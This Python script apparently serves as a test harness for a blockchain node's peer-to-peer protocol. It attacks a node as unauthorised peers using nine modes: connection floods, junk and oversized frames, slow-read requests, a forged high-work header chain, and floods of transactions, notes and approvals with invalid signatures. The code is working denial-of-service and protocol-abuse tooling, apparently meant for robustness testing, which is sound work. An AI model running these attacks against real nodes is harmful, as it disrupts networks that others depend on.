#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks a node over the network as strangers, who have a network file and no key that anybody let in.

  attack.py NAME NETWORK.json HOST:PORT FOLDER [--source ADDRESS] [--seconds N] [--links N]

Written from Docs/protocol.md with Python's own library; FOLDER keeps the keys, which openssl makes, of each attack by themselves.
Prints as JSON how many links greeted, how many the node ended, why, and the bytes that were sent.
"""
import argparse
import json
import pathlib
import random
import socket
import ssl
import subprocess
import sys
import time
from hashlib import sha256

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "Protocol"))
from recompute.coding import ZERO, Reader, text, u, varint
from recompute.chain import Ledger
from recompute.network import Network, target

HELLO, GOODBYE, PING, PONG, GET_HEADERS, HEADERS, GET_BLOCKS, BLOCK = 1, 2, 3, 4, 5, 6, 7, 8
DELIVERY, NOTES, APPROVALS, GET_ANCESTORS = 15, 22, 29, 33


def openssl(*arguments):
    return subprocess.run(["openssl", *map(str, arguments)], check=True, capture_output=True).stdout


def frame(kind, payload=b""):
    return u(4, 1 + len(payload)) + bytes([kind]) + payload


class Key:
    """An Ed25519 key in files, with a certificate for TLS."""

    def __init__(self, folder, number):
        self.key, self.certificate = folder / f"{number}.key", folder / f"{number}.pem"
        if not self.certificate.exists():
            openssl("req", "-x509", "-newkey", "ed25519", "-nodes", "-subj", "/CN=x", "-days", "2",
                    "-keyout", self.key, "-out", self.certificate)
        self.public = openssl("pkey", "-in", self.key, "-pubout", "-outform", "DER")[-32:]

    def sign(self, content):
        path = self.key.with_suffix(".content")
        path.write_bytes(content)
        return openssl("pkeyutl", "-sign", "-inkey", self.key, "-rawin", "-in", path)


class Link:
    """A link of one key, §27 and §28.1; it states a chain of any height and work."""

    def __init__(self, attack, key, height=0, tip=ZERO, work=0, receives=None):
        self.key, self.goodbye, self.sent, self.buffer, self.now = key, None, 0, b"", None
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.load_cert_chain(key.certificate, key.key)
        raw = socket.socket()
        if receives:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receives)
        raw.settimeout(10)
        raw.bind((attack.source, 0))
        raw.connect(attack.victim)
        self.socket = context.wrap_socket(raw)
        network = attack.network
        self.send(HELLO, u(2, 1) + u(2, 0) + text(network.name) + network.id + varint(1) + varint(0) + u(2, 0)
                  + varint(height) + tip + u(32, work) + u(8, int(time.time())) + text("attacker"))
        kind, payload = self.receive()
        if kind == HELLO:
            reader = Reader(payload)
            reader.take(4), reader.text(1, 32), reader.take(32), reader.varint(), reader.varint(), reader.take(2)
            self.height, self.tip, _, self.now = reader.varint(), reader.take(32), reader.take(32), reader.u(8)

    def send(self, kind, payload=b""):
        self.raw(frame(kind, payload))

    def raw(self, data):
        self.socket.sendall(data)
        self.sent += len(data)

    def receive(self):
        while len(self.buffer) < 4 or len(self.buffer) < 4 + int.from_bytes(self.buffer[:4], "big"):
            more = self.socket.recv(65536)
            if not more:
                raise ConnectionError("closed")
            self.buffer += more
        length = int.from_bytes(self.buffer[:4], "big")
        kind, payload = self.buffer[4], self.buffer[5:4 + length]
        self.buffer = self.buffer[4 + length:]
        if kind == GOODBYE:
            self.goodbye = payload[0]
        return kind, payload

    def stays(self):
        """Reads what has come; whether the link is open still."""
        self.socket.settimeout(0.05)
        try:
            while True:
                self.receive()
        except TimeoutError:
            return True
        except OSError:
            return False


class Attack:
    def __init__(self, options):
        host, port = options.victim.rsplit(":", 1)
        self.victim, self.source, self.wanted = (host, int(port)), options.source, options.links
        self.network = Network(pathlib.Path(options.network).read_bytes())
        self.folder, self.chance = pathlib.Path(options.folder) / options.name, random.Random(7)
        self.folder.mkdir(parents=True, exist_ok=True)
        self.seconds = options.seconds
        self.links, self.refused = [], 0

    def key(self, number):
        return Key(self.folder, number)

    def link(self, number, **stated):
        try:
            link = Link(self, self.key(number), **stated)
        except OSError:
            self.refused += 1
            return None
        if link.now is not None:
            self.links.append(link)
        return link if link.now is not None else None

    def all_links(self, **stated):
        return [link for link in (self.link(n, **stated) for n in range(self.wanted)) if link]

    def until_the_end(self, step):
        """Each link does a step in turn, those that were ended aside."""
        open_links, end = list(self.links), time.monotonic() + self.seconds
        while open_links and time.monotonic() < end:
            for link in list(open_links):
                try:
                    step(link)
                except OSError:
                    open_links.remove(link)
            time.sleep(0.002)

    def signed(self, key, domain, content):
        return key.sign(b"hinata/signature/1" + self.network.id + bytes([domain]) + content)

    # The attacks

    def silent(self):
        """Connections that never begin a handshake."""
        sockets = []
        for _ in range(600):
            try:
                sockets.append(socket.create_connection(self.victim, 2, (self.source, 0)))
            except OSError:
                self.refused += 1
        time.sleep(self.seconds)

    def junk(self):
        """Bytes that are no message, from whoever is next door."""
        for link in self.all_links():
            link.raw(frame(200, self.chance.randbytes(100)))

    def half(self):
        """The largest frames that nobody asked for, each all but its last byte."""
        body = self.chance.randbytes(65_000)
        for link in self.all_links():
            link.raw(u(4, 1 + 65_536) + bytes([DELIVERY]) + body)
        time.sleep(self.seconds)

    def huge(self):
        """The head of a block of the largest size, again and again."""
        for link in self.all_links():
            try:
                link.raw(u(4, 1 + 35_651_584) + bytes([BLOCK]))
                for _ in range(600):
                    link.raw(bytes(65_536))
            except OSError:
                pass

    def unread(self):
        """Questions whose answers are long, and nobody reads them."""
        def ask(link):
            link.socket.settimeout(0.05)
            try:
                link.send(GET_ANCESTORS, link.tip + u(8, 1))
                link.send(GET_BLOCKS, varint(64) + link.tip * 64)
                link.send(GET_HEADERS, varint(1) + ZERO)
            except TimeoutError:
                pass

        self.all_links(receives=4096)
        self.until_the_end(ask)

    def headers(self):
        """A chain of strangers' headers, worked for and signed, with more work than any, without a body."""
        first = self.link(0)
        ledger, keys = Ledger(self.network), [self.key(n) for n in range(1, 1 + self.wanted)]
        parent = ledger.headers[0]
        previous, period, most = parent.hash, self.network.period, target(self.network.easiest)
        start = (first.now // period - len(keys)) * period
        chain = b""
        for height, key in enumerate(keys, 1):
            head = (u(2, 1) + self.network.tag + u(8, height) + previous + u(8, start + height * period)
                    + self.chance.randbytes(64) + key.public + u(4, self.network.easiest) + u(4, 0))
            hasher = sha256(head)
            nonce = 0
            while True:
                trial = hasher.copy()
                trial.update(u(8, nonce))
                if int.from_bytes(trial.digest(), "big") <= most:
                    break
                nonce += 1
            previous = trial.digest()
            chain += head + u(8, nonce) + self.signed(key, 0, previous)
        answer = varint(len(keys)) + chain
        liar = self.link(len(keys) + 1, height=2**40, tip=previous, work=2**200)
        end = time.monotonic() + self.seconds
        while liar and time.monotonic() < end:
            try:
                liar.socket.settimeout(0.5)
                kind, payload = liar.receive()
                if kind == GET_HEADERS:
                    liar.send(HEADERS, answer)
                if kind == PING:
                    liar.send(PONG, payload)
            except TimeoutError:
                pass
            except OSError:
                break

    def transactions(self):
        """Transfers of nobody with signatures of noise, as many as the share allows and more."""
        def deliver(link):
            ones = [bytes([6]) + self.chance.randbytes(96) + b"\0" + self.chance.randbytes(64) for _ in range(300)]
            link.send(DELIVERY, varint(len(ones)) + b"".join(varint(len(one)) + one for one in ones))

        self.all_links()
        self.until_the_end(deliver)

    def notes(self):
        """Audit notes of strangers, rightly signed, on reports that are not there."""
        key = self.key(0)
        bodies = [key.public + self.chance.randbytes(32) + b"\3" + u(8, 0) for _ in range(20)]
        notes = [body + self.signed(key, 0xC2, body) for body in bodies]
        message = varint(100) + b"".join(notes[n % 20] for n in range(100))
        self.all_links()
        self.until_the_end(lambda link: link.send(NOTES, message))

    def approvals(self):
        """Approvals of every seat with signatures of noise."""
        def approve(link):
            epoch = self.network.epoch(link.now)
            content = u(4, 0) + u(4, epoch - 1) + link.tip + u(4, epoch) + link.tip
            seats = b"".join(bytes([seat]) + self.chance.randbytes(64) for seat in range(64))
            link.send(APPROVALS, content + bytes([64]) + seats)

        self.all_links()
        self.until_the_end(approve)

    def said(self):
        ended = [link for link in self.links if not link.stays()]
        reasons = sorted({link.goodbye for link in ended if link.goodbye is not None})
        return {"greeted": len(self.links), "refused": self.refused, "ended": len(ended), "reasons": reasons,
                "sent": sum(link.sent for link in self.links)}


ATTACKS = ["silent", "junk", "half", "huge", "unread", "headers", "transactions", "notes", "approvals"]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("network")
    parser.add_argument("victim")
    parser.add_argument("folder")
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--links", type=int, default=64)
    options = parser.parse_args()
    attack = Attack(options)
    getattr(attack, options.name)()
    print(json.dumps(attack.said()))


if __name__ == "__main__":
    main()
